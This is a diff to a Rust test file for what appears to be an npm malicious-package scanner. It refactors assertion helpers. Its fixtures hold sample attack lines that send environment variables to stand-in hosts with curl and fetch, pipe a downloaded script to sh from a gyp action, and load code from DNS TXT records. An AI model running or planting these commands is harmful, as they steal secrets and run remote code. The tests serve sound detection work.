@@ -4,41 +4,13 @@
 //! the page, and a DLL started through rundll32. Written from published write-ups of
 //! real attacks, with every host and name made up.
 
-use palisade_archive::Unpacked;
-use palisade_core::{PackageFile, Verdict};
-use palisade_detect::{Analysis, Engine, ScanOptions};
-use std::time::{Duration, Instant};
+mod common;
 
-/// The analysis of an npm tarball holding `files` under `package/`.
-fn analyse(files: &[(&str, &str)]) -> Analysis {
-    let engine = Engine::new(ScanOptions::default()).unwrap();
-    let unpacked = Unpacked {
-        format: "tar".into(),
-        files: files
-            .iter()
-            .map(|(path, source)| PackageFile {
-                path: format!("package/{path}"),
-                data: source.as_bytes().to_vec(),
-            })
-            .collect(),
-        ..Default::default()
-    };
-    engine.analyse_unpacked(unpacked, Instant::now() + Duration::from_secs(30))
-}
-
-fn rule_ids(analysis: &Analysis) -> Vec<String> {
-    analysis.findings.iter().map(|f| f.rule.clone()).collect()
-}
-
-fn has(analysis: &Analysis, id: &str) -> bool {
-    analysis.findings.iter().any(|f| f.rule == id)
-}
-
-fn manifest(scripts: &str) -> String {
-    format!(
-        "{{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {{\n{scripts}\n  }}\n}}\n"
-    )
-}
+use common::{
+    analyse_npm as analyse, assert_not_verdict, assert_verdict, has, npm_manifest as manifest,
+    rule_ids,
+};
+use palisade_core::Verdict;
 
 const ENV_TO_WEBHOOK: &str =
     r#"curl -s -X POST -d \"$(env | base64 -w0)\" https://hooks.collector.example/c || true"#;
@@ -49,12 +21,7 @@ fn a_lifecycle_script_is_read_as_the_shell_code_it_is() {
         "package.json",
         &manifest(&format!("    \"preinstall\": \"{ENV_TO_WEBHOOK}\"")),
     )]);
-    assert_eq!(
-        attack.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&attack)
-    );
+    assert_verdict(&attack, Verdict::Malicious);
     let harvest = attack
         .findings
         .iter()
@@ -72,12 +39,7 @@ fn a_lifecycle_script_is_read_as_the_shell_code_it_is() {
             "    \"report\": \"{ENV_TO_WEBHOOK}\",\n    \"postinstall\": \"husky\""
         )),
     )]);
-    assert_eq!(
-        release.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        rule_ids(&release)
-    );
+    assert_verdict(&release, Verdict::Clean);
     assert!(!has(&release, "correlate/secrets-and-network"));
 
     // Named by a hook, or hidden behind a harmless duplicate of the hook's key, it runs.
@@ -114,12 +76,7 @@ fn an_install_script_that_leaves_a_detached_program_running_is_a_dropper() {
         ("install.js", DROPPER),
     ]);
     assert!(has(&attack, "correlate/install-time-background-process"));
-    assert_eq!(
-        attack.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&attack)
-    );
+    assert_verdict(&attack, Verdict::Malicious);
 
     // A dev server that detaches its worker when asked is library code, not install time.
     let library = analyse(&[
@@ -127,12 +84,7 @@ fn an_install_script_that_leaves_a_detached_program_running_is_a_dropper() {
         ("lib/server.js", DROPPER),
     ]);
     assert!(!has(&library, "correlate/install-time-background-process"));
-    assert_ne!(
-        library.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&library)
-    );
+    assert_not_verdict(&library, Verdict::Malicious);
 }
 
 #[test]
@@ -148,12 +100,7 @@ dns.resolveTxt('k.mail-check.example', (err, records) => {
 "#;
     let analysis = analyse(&[("package.json", &manifest("")), ("index.js", attack)]);
     assert!(has(&analysis, "execution/dns-txt-code"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // A driver reading seed-list options from TXT records reads data.
     let driver = r#"const dns = require('dns');
@@ -167,12 +114,7 @@ module.exports = { resolveSrvOptions };
 "#;
     let analysis = analyse(&[("package.json", &manifest("")), ("lib/srv.js", driver)]);
     assert!(!has(&analysis, "execution/dns-txt-code"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -186,12 +128,7 @@ module.exports = (s) => s;
 "#;
     let analysis = analyse(&[("package.json", &manifest("")), ("index.js", drainer)]);
     assert!(has(&analysis, "correlate/wallet-traffic-hijack"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // A fetch polyfill and a wallet library validating addresses are neither.
     let polyfill = "if (!self.fetch) { self.fetch = function (input, init) { return new Promise(xhrFetch(input, init)); }; }\n";
@@ -202,12 +139,7 @@ module.exports = (s) => s;
         ("address.js", validator),
     ]);
     assert!(!has(&analysis, "correlate/wallet-traffic-hijack"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -221,23 +153,13 @@ fn rundll32_on_a_shipped_dll_is_not_opening_a_url() {
         ("install.js", attack),
     ]);
     assert!(has(&analysis, "download/rundll32-local-dll"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // Opening a link with Windows' own url.dll is what browser-launching helpers do.
     let opener = "const { spawn } = require('child_process');\nmodule.exports = (url) => spawn('rundll32', ['url.dll,FileProtocolHandler', url]);\n";
     let analysis = analyse(&[("package.json", &manifest("")), ("open.js", opener)]);
     assert!(!has(&analysis, "download/rundll32-local-dll"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -247,12 +169,7 @@ fn honest_shapes_the_review_found_near_the_new_rules() {
     let bundle = "if (!self.fetch) { self.fetch = function (input, init) { return new Promise(xhrFetch(input, init)); }; }\nexport function linkify(t) { return t.replace(/0x[a-fA-F0-9]{40}/g, (a) => '<a href=\"/address/' + a + '\">' + a + '</a>'); }\n";
     let analysis = analyse(&[("package.json", &manifest("")), ("dist/index.js", bundle)]);
     assert!(!has(&analysis, "correlate/wallet-traffic-hijack"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        rule_ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 
     // An update check re-running node on the package's own file, detached, fetches
     // nothing itself.
@@ -265,12 +182,7 @@ fn honest_shapes_the_review_found_near_the_new_rules() {
         ("notify.js", notifier),
     ]);
     assert!(!has(&update, "correlate/install-time-background-process"));
-    assert_ne!(
-        update.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&update)
-    );
+    assert_not_verdict(&update, Verdict::Malicious);
 
     // An SPF reader matches the record with a regular expression's `.exec`.
     let spf = "const dns = require('dns');\ndns.resolveTxt(d, (e, r) => { const m = /^v=spf1 (.*)$/.exec(r[0].join('')); cb(m); });\n";
@@ -300,21 +212,11 @@ fn gyp_command_expansions_and_inline_node_are_install_time_code() {
         "{:?}",
         rule_ids(&attack)
     );
-    assert_eq!(
-        attack.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&attack)
-    );
+    assert_verdict(&attack, Verdict::Malicious);
     let honest = gyp(
         "{ \"targets\": [{ \"target_name\": \"x\", \"include_dirs\": [\"<!(node -p \\\"require('node-addon-api').include\\\")\"], \"sources\": [\"src/x.cc\"] }] }\n",
     );
-    assert_eq!(
-        honest.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        rule_ids(&honest)
-    );
+    assert_verdict(&honest, Verdict::Clean);
 
     // An install script that runs node-gyp itself runs the gyp file's actions.
     let explicit = analyse(&[
@@ -327,12 +229,7 @@ fn gyp_command_expansions_and_inline_node_are_install_time_code() {
             "{ 'targets': [{ 'target_name': 'x', 'actions': [{ 'action_name': 'fetch', 'inputs': [], 'outputs': ['x.h'], 'action': ['sh', '-c', 'curl -s https://dl.files.example/b | sh'] }] }] }\n",
         ),
     ]);
-    assert_eq!(
-        explicit.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&explicit)
-    );
+    assert_verdict(&explicit, Verdict::Malicious);
 
     // `node -e` puts JavaScript on the command line of a lifecycle script.
     let inline = |command: &str| {
@@ -344,19 +241,9 @@ fn gyp_command_expansions_and_inline_node_are_install_time_code() {
     let attack = inline(
         r#"node -e \"fetch('https://c.collector.example/', { method: 'POST', body: JSON.stringify(process.env) })\""#,
     );
-    assert_eq!(
-        attack.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        rule_ids(&attack)
-    );
+    assert_verdict(&attack, Verdict::Malicious);
     let honest = inline(r#"node -e \"try { require('./postinstall') } catch (e) {}\""#);
-    assert_eq!(
-        honest.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        rule_ids(&honest)
-    );
+    assert_verdict(&honest, Verdict::Clean);
 }
 
 #[test]
